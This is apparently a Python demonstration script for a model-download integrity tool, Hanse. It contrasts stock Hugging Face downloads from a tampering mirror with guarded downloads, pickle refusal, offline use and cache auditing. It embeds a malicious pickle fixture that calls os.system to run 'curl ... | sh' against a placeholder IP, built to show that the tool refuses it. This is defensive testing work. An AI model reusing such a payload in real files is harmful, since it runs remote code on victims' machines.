"""The contrast: what a mirror that alters bytes does to stock tools, and what it cannot do under `hanse run`.

1. A mirror alters one bit of a model. Stock `hf download` reports success, and the file is wrong.
2. The same command under `hanse run`: the bit is caught in its chunk, which is fetched from an honest node.
3. A model whose pickle runs a program is refused, with the reason.
4. Mirror and node go away, and a month passes. The model is still there, with its age.
5. The altered copy that the first download left on the machine is found by `hanse audit`, and moved out of the way.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

from demo.stage import Institution, chapter, say
from tests.services.clients import MINILM, client_hf
from tests.support.clients import Client

from hanse.conform.faults import Fault
from hanse.conform.origin import HubOrigin

MODEL = "sentence-transformers/all-MiniLM-L6-v2"
WEIGHTS = "model.safetensors"
TRIES = 8
EVIL = "friendly/helper"
PICKLE = b"cposix\nsystem\n(S'curl -s http://203.0.113.9/x | sh'\ntR."
"""Calls os.system when it is unpickled."""
LATER_DAYS = 30
_LATER = f"""
import time
_now, _now_ns = time.time, time.time_ns
time.time = lambda: _now() + {LATER_DAYS} * 86400
time.time_ns = lambda: _now_ns() + {LATER_DAYS} * 86400 * 10**9
"""


def later_folder(folder: Path) -> Path:
    """Return a folder that sets forward the clock of every Python program which has it on its path."""
    later = folder / "later"
    later.mkdir(parents=True)
    (later / "sitecustomize.py").write_text(_LATER)
    return later


class Laptop:
    """A person's machine: stock tools, their cache, and Hanse."""

    def __init__(self, home: Path, mirror: HubOrigin, node: str) -> None:
        self.home = home
        self.mirror = mirror
        self.node = node
        self.later = later_folder(home)
        self.environ: dict[str, str] = {}

    def run(self, shown: str, words: list[str | Path], *, status: int | None = 0) -> str:
        """Print a command, run it, print what it said; ends the demonstration if it fails (status None: if it does not)."""
        say(f"\n$ {shown}")
        done = subprocess.run([str(word) for word in words], env=self._environ(), capture_output=True, text=True, check=False)
        said = [line for line in (done.stdout + done.stderr).splitlines() if line.strip() and not _noise(line)]
        say("\n".join(f"  {line[:220]}" for line in said[-8:]))
        if (done.returncode == 0) != (status == 0):
            sys.exit(f"the command ended with {done.returncode}")
        return done.stdout + done.stderr

    def hf(self, repo: str, folder: Path | None = None, *, guarded: bool = False, status: int | None = 0) -> str:
        """Download with the stock command, as it is or under `hanse run`."""
        where: list[str | Path] = [] if folder is None else ["--local-dir", folder]
        words: list[str | Path] = [client_hf("hub2"), "download", repo, *where]
        shown = f"hf download {repo}"
        if not guarded:
            return self.run(f"HF_ENDPOINT={self.mirror.url} {shown}", words, status=status)
        hanse = ["run", "--policy", "open", "--node", self.node, "--upstream", self.mirror.url, "--"]
        return self.run(
            f"hanse run --node {self.node} --upstream {self.mirror.url} -- {shown}",
            [sys.executable, "-m", "hanse", *hanse, *words],
            status=status,
        )

    def _environ(self) -> Mapping[str, str]:
        keep = {key: value for key, value in os.environ.items() if not key.startswith(("HANSE_", "HF_"))}
        mine = {"HOME": str(self.home), "HF_HOME": str(self.home / "hf"), "HANSE_HOME": str(self.home / "hanse")}
        mine |= {"HF_ENDPOINT": self.mirror.url, "HF_HUB_DISABLE_PROGRESS_BARS": "1", "NO_COLOR": "1"}
        return keep | mine | self.environ


def _noise(line: str) -> bool:
    """Tell whether a line is a client's hint about itself."""
    return "Hint:" in line or "hf skills" in line


def contrast(folder: Path, honest: Institution) -> None:
    """Tell the five parts of the contrast; ends the demonstration if one of them does not happen."""
    evil = folder / "evil"
    evil.mkdir(parents=True)
    (evil / "config.json").write_text('{"model_type": "bert"}\n')
    (evil / "pytorch_model.bin").write_bytes(PICKLE)
    with HubOrigin({MODEL: MINILM, EVIL: evil}, xet=True, chunk_lists=True) as mirror:
        laptop = Laptop(folder / "laptop", mirror, honest.node.url)
        chapter("A mirror alters one bit of a model, and stock tools do not notice")
        cached = altered(laptop)
        chapter("The same command under `hanse run`")
        say(f"{honest.name}, a Hanse node, has the same model:")
        honest.hf(Client("hub2", honest.node, folder / "friend"), "upload", "admin/copy", MINILM / WEIGHTS, WEIGHTS)
        caught(laptop, folder / "right")
        chapter("A malicious pickle is refused")
        refused(laptop, folder / "helper")
        chapter(f"Mirror and node go away, and {LATER_DAYS} days pass")
        mirror.stop()
        offline(laptop, folder / "later")
        chapter("The altered copy is still in the cache of stock tools")
        audited(laptop, cached)


def same(path: Path) -> bool:
    """Tell whether a file is the model's weights."""
    return path.read_bytes() == (MINILM / WEIGHTS).read_bytes()


def altered(laptop: Laptop) -> Path:
    """Download from the mirror; returns the altered file in the cache."""
    laptop.mirror.faults.set(Fault.WRONG_BYTES, path=WEIGHTS)
    laptop.hf(MODEL)
    cached = next((laptop.home / "hf" / "hub").rglob(f"snapshots/*/{WEIGHTS}"))
    if same(cached):
        sys.exit("the mirror altered nothing")
    say(f"  success, says the command. But {WEIGHTS} is not the model: one bit of it is another.")
    return cached


def caught(laptop: Laptop, folder: Path) -> None:
    """Download under `hanse run`, until the mirror is asked for the false bit: who is asked for what follows speed."""
    for _ in range(TRIES):
        said = laptop.hf(MODEL, folder, guarded=True)
        if "chunk" in said and laptop.mirror.url.partition("//")[2] in said:
            break
        if not same(folder / WEIGHTS):
            sys.exit("the file is not the model, and nobody said so")
        say("  It happened to ask the node for the part with the false bit. Once more, with nothing held:\n")
        shutil.rmtree(folder)
        shutil.rmtree(laptop.home / "hanse")
    else:
        sys.exit("nobody said who lied, and where")
    if not same(folder / WEIGHTS):
        sys.exit("the file is not the model")
    say("  The false chunk was thrown away and fetched from the node: the file is the model, byte for byte.")


def refused(laptop: Laptop, folder: Path) -> None:
    """Download a malicious model under `hanse run`."""
    said = laptop.hf(EVIL, folder, guarded=True, status=None)
    if (folder / "pytorch_model.bin").exists():
        sys.exit("a malicious pickle was let through")
    if "policy 'open' refuses 'pytorch_model.bin'" not in said or "posix.system" not in said:
        sys.exit("nobody said who refuses the pickle, and why")


def offline(laptop: Laptop, folder: Path) -> None:
    """Download once more when nobody answers any more."""
    say("The mirror is switched off, the node is out of reach, and the laptop's clock is set forward.")
    laptop.node = "http://127.0.0.1:9"
    laptop.environ = {"PYTHONPATH": os.pathsep.join([str(laptop.later), os.environ.get("PYTHONPATH", "")])}
    said = laptop.hf(MODEL, folder, guarded=True)
    if not same(folder / WEIGHTS):
        sys.exit("the file is not the model")
    if "as of" not in said:
        sys.exit("nobody said how old it is")
    laptop.environ = {}


def audited(laptop: Laptop, cached: Path) -> None:
    """Find the altered copy, and move it out of the way."""
    words: list[str | Path] = [sys.executable, "-m", "hanse", "audit", "--policy", "open", "--quarantine"]
    said = laptop.run("hanse audit --quarantine", words)
    if "altered" not in said:
        sys.exit("the altered copy was not found")
    if cached.exists():
        sys.exit("the altered copy is still where stock tools find it")
    shutil.rmtree(laptop.home / "hf")
